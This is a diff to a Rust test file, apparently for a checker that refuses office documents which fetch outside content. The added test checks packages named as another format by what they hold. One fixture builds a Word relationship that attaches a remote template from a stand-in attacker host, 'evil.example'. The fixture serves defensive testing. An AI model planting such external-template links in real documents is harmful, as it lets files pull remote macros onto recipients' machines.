@@ -1,5 +1,6 @@
-//! OpenDocument files whose parts are named in other capitals, or listed
-//! elsewhere by their manifest.
+//! OpenDocument files whose parts are named in other capitals, listed
+//! elsewhere by their manifest, or that are another kind of package under
+//! an OpenDocument name (and the other way round).
 
 use crate::common::office::{package, published, refused};
 
@@ -104,4 +105,45 @@ fn what_an_opendocument_file_fetches_or_runs_in_any_part_is_not_published() {
         ),
     ]);
     published("report.odt", &ordinary);
+}
+
+/// A package was checked as its name said: a Word document named
+/// `report.odt`, with an outside template, and an OpenDocument file named
+/// `report.docx`, with a linked picture, were published, though
+/// LibreOffice knows a file by what it holds and opens each as what it is.
+/// Now each is checked as what it holds and not published; one that holds
+/// both kinds' parts is refused, since programs differ on which it is.
+#[test]
+fn a_package_under_another_kind_s_name_is_checked_as_what_it_holds() {
+    let template = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
+    let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
+    let word = [
+        ("[Content_Types].xml", types),
+        (
+            "word/document.xml",
+            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>",
+        ),
+        ("word/_rels/settings.xml.rels", template),
+    ];
+    refused(
+        "report.odt",
+        &package(&word),
+        &["attachedTemplate `https://evil.example/t.dotm`"],
+    );
+    let linked = content(LINKED);
+    refused(
+        "report.docx",
+        &package(&[MIMETYPE, ("content.xml", &linked)]),
+        &[FETCHED],
+    );
+    let plain = content("<text:p/>");
+    refused(
+        "report.odt",
+        &package(&[
+            MIMETYPE,
+            ("content.xml", &plain),
+            ("[Content_Types].xml", types),
+        ]),
+        &["it is both an OpenDocument file and a Word, Excel or PowerPoint one"],
+    );
 }
